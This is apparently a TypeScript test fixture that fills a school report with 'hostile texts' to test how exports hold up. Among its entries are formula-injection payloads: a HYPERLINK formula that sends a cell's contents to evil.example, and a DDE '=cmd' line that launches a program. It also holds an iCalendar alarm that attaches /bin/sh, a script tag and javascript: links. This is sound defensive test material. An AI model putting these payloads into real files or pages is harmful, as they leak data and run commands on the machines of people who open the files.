import type { Answer } from '../../../src/domain/answers.ts';
import type { ReportSource } from '../../../src/export/document/source.ts';

/** Texts that have broken exports of other tools: formulas, markup, calendars, direction marks, controls, emoji, endless words. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '   =1+1 behind spaces',
  '\u200b\ufeff=1+1 behind signs without width',
  '\uff1d1\uff0b1 in full width',
  '\t=1+1 behind a tab',
  '\r\n=1+1 behind a line end',
  'fine; "quoted", and\r\nover\nseveral\rlines',
  '\u202egnitirw daerpser\u202c and \u2066isolated\u2069 \u200fעברית\u200e',
  'Zusammengehörigkeitsgefühl'.repeat(77).slice(0, 1994),
  '👩🏽‍🏫👨‍👩‍👧‍👦🇫🇮 and 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'Ž̵̧̛͈͙̆̐a̶̢̘͋l̸̙̃g̷̛̩o̸͙͂ ελληνικά български 中文 العربية',
  '<script>alert(1)</script> ]]> &amp; <!-- " \' `',
  '\u0000\u0001\u0008\u000b\u001f\u007f\u0085 controls \ufffe\uffff',
  'half a pair \ud83d alone, and \udc4d turned',
  '_x0041_ _x005F_ _xD800_ is not an escape',
  'END:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh',
  'back\\slash; comma, {brace} $1 $& %s {{x}} \\n',
  '',
];

/** A school with so many items, notes and actions, every text of somebody's own among the hostile ones. */
export function hostileSchool(school: ReportSource, count: number): ReportSource {
  const places = Array.from({ length: count }, (_, place) => place);
  const items = places.map((place) => ({ ...at(school.questionnaire.items, place), id: `item-${place}`, code: `X-${place}` }));
  const actions = places.map((place) => ({
    ...at(school.questionnaire.actions, place),
    id: `action-${place}`,
    code: `A-X-${place}`,
    dimension: at(school.questionnaire.dimensions, place).id,
  }));
  const { report } = school;
  return {
    ...school,
    questionnaire: { ...school.questionnaire, items, actions },
    texts: { ...school.texts, items: Object.fromEntries(items.map(({ id }, place) => [id, { ...texts(school, place) }])) },
    catalogueTexts: {
      ...school.catalogueTexts,
      actions: Object.fromEntries(actions.map(({ id }, place) => [id, { ...action(school, place), title: hostileText(place) }])),
    },
    report: {
      ...report,
      school: '=1+1 \u202eloohcs\u202c, "Š" & <b>\r\nEND:VCALENDAR',
      answers: Object.fromEntries(places.map((place) => [`item-${place}`, hostileAnswer(place)])),
      profile: {
        ...report.profile,
        items: places.map((place) => ({ ...at(report.profile.items, place), item: `item-${place}` })),
        strengths: [],
        gaps: [],
        findOut: [],
        questions: [],
      },
      roadmap: {
        ...report.roadmap,
        findOut: [],
        leftOut: [],
        actions: places.map((place) => ({
          ...at(report.roadmap.actions, place),
          action: `action-${place}`,
          reasons: [],
          blockers: [],
          unlocks: [],
          raises: [{ item: `item-${place}`, from: 0, to: 1 }],
        })),
      },
    },
  };
}

/** A note that can be told from every other. */
export function hostileText(place: number): string {
  return `${at(HOSTILE_TEXTS, place)} #${place}#`;
}

/** Letters and digits of a text, in order: what must not be lost, whatever is done to the signs between them. */
export function lettersOf(text: string): string {
  return [...text.matchAll(/[\p{L}\p{N}\p{Extended_Pictographic}]/gu)].join('');
}

function hostileAnswer(place: number): Answer {
  const text = hostileText(place);
  const evidence = [{ title: shortened(text, 190), date: '2026-11', link: `javascript:alert(${place})` }];
  return place % 5 === 4 ? { notApplicable: { reason: shortened(text, 480) }, note: text } : { level: 2, note: text, evidence };
}

function texts({ texts: { items }, questionnaire }: ReportSource, place: number) {
  const found = items[at(questionnaire.items, place).id];
  if (!found) throw new Error('an item has no words');
  return found;
}

function action({ catalogueTexts: { actions }, questionnaire }: ReportSource, place: number) {
  const found = actions[at(questionnaire.actions, place).id];
  if (!found) throw new Error('an action has no words');
  return found;
}

function at<Value>(values: readonly Value[], place: number): Value {
  const value = values[place % values.length];
  if (value === undefined) throw new Error('nothing to choose from');
  return value;
}

function shortened(text: string, most: number): string {
  return [...text].slice(0, most).join('');
}
